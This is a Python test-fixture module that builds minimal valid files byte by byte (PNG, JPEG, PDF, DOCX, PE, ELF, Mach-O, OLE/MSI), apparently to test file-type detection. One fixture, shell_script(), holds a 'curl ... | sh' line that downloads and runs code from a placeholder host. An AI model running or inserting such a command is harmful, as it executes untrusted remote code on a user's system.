"""Small real files, built byte by byte the way their formats lay them out (not just magic numbers)."""

from __future__ import annotations

import io
import struct
import sys
import uuid
import zipfile
import zlib


def png(width: int = 2, height: int = 2) -> bytes:
    """A valid PNG (signature, IHDR, IDAT, IEND with CRCs) of a grey image."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\x00" + b"\x80" * width * 3 for _ in range(height))
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def jpeg() -> bytes:
    """A baseline JFIF JPEG of one 8x8 grey block: SOI, APP0, DQT, SOF0, DHT, SOS, EOI."""
    app0 = b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    dqt = b"\x00" + bytes([1] * 64)
    sof = struct.pack(">BHHB", 8, 8, 8, 1) + b"\x01\x11\x00"
    # One DC table with a single 1-bit code (category 0) and one AC table with EOB only.
    dht = b"\x00" + bytes([1] + [0] * 15) + b"\x00" + b"\x10" + bytes([1] + [0] * 15) + b"\x00"
    sos = b"\x01\x01\x00\x00\x3f\x00"

    def segment(marker: int, body: bytes) -> bytes:
        return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body

    return (
        b"\xff\xd8"
        + segment(0xE0, app0)
        + segment(0xDB, dqt)
        + segment(0xC0, sof)
        + segment(0xC4, dht)
        + segment(0xDA, sos)
        + b"\x00"  # DC code 0 (difference 0), AC EOB
        + b"\xff\xd9"
    )


def pdf() -> bytes:
    """A one-page PDF with a correct xref table."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n" % number + body + b"\nendobj\n")
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref))
    return out.getvalue()


def docx() -> bytes:
    """A minimal Office Open XML word document (a ZIP with its content types and parts)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(
            "[Content_Types].xml",
            '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/'
            'package/2006/content-types"><Default Extension="xml" ContentType="application/xml"/>'
            '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        archive.writestr("_rels/.rels", "<Relationships/>")
        archive.writestr("word/document.xml", "<w:document><w:body><w:p/></w:body></w:document>")
    return buffer.getvalue()


def pe() -> bytes:
    """A Windows PE32 executable's headers: DOS stub with e_lfanew, PE signature, COFF header,
    optional header magic (what Windows reads before running it)."""
    dos = bytearray(b"MZ" + b"\x00" * 62)
    struct.pack_into("<I", dos, 0x3C, 0x80)
    stub = b"This program cannot be run in DOS mode.\r\r\n$".ljust(0x80 - len(dos), b"\x00")
    coff = struct.pack("<HHIIIHH", 0x14C, 1, 0, 0, 0, 0xE0, 0x0102)
    optional = struct.pack("<H", 0x10B).ljust(0xE0, b"\x00")
    return bytes(dos) + stub + b"PE\x00\x00" + coff + optional + b"\x00" * 512


def elf() -> bytes:
    """The first bytes of the Python interpreter running the tests: a real ELF on Linux."""
    with open(sys.executable, "rb") as binary:
        head = binary.read(4096)
    if head.startswith(b"\x7fELF"):
        return head
    # Not on Linux: an ELF64 header for x86-64 as the kernel reads it.
    ident = b"\x7fELF\x02\x01\x01" + b"\x00" * 9
    return ident + struct.pack("<HHIQQQIHHHHHH", 2, 0x3E, 1, 0x401000, 64, 0, 0, 64, 56, 1, 64, 0, 0)


def macho() -> bytes:
    """A 64-bit Mach-O header (arm64, MH_EXECUTE) and an LC_SEGMENT_64 load command."""
    header = struct.pack("<IiiIIII", 0xFEEDFACF, 0x0100000C, 0, 2, 1, 72, 0) + b"\x00" * 4
    segment = struct.pack("<II16sQQQQiiII", 0x19, 72, b"__PAGEZERO", 0, 1 << 32, 0, 0, 0, 0, 0, 0)
    return header + segment


MSI_CLSID = "000C1084-0000-0000-C000-000000000046"
WORD_CLSID = "00020906-0000-0000-C000-000000000046"


def ole(clsid: str = MSI_CLSID, directory_sector: int = 0) -> bytes:
    """An OLE compound file (512-byte sectors) whose root storage carries ``clsid``, stored as OLE stores
    it (little-endian, uuid bytes_le), with its directory at ``directory_sector`` (file offset
    (sector + 1) * 512: sector 8 and up lie past the first 4 KiB)."""
    header = bytearray(512)
    header[0:8] = bytes.fromhex("d0cf11e0a1b11ae1")
    struct.pack_into("<HHH", header, 0x18, 0x3E, 3, 0xFFFE)
    struct.pack_into("<H", header, 0x1E, 9)  # 512-byte sectors
    struct.pack_into("<I", header, 0x30, directory_sector)
    root = bytearray(128)
    name = "Root Entry".encode("utf-16-le") + b"\x00\x00"
    root[0 : len(name)] = name
    struct.pack_into("<HB", root, 0x40, len(name), 5)
    root[0x50:0x60] = uuid.UUID(clsid).bytes_le
    filler = bytes(range(256)) * 2  # sectors of something else (streams, the FAT) before the directory
    return bytes(header) + filler * directory_sector + bytes(root) + b"\x00" * (512 - 128)


def msi(directory_sector: int = 0) -> bytes:
    """A Windows Installer package: an OLE file whose root storage has the MSI CLSID."""
    return ole(MSI_CLSID, directory_sector)


def shell_script() -> bytes:
    return b"#!/bin/sh\nset -eu\ncurl -s https://example.invalid/x | sh\n"


def text() -> bytes:
    return "Quarterly summary\n\nRevenue grew 4 % — see the attached figures.\n".encode()
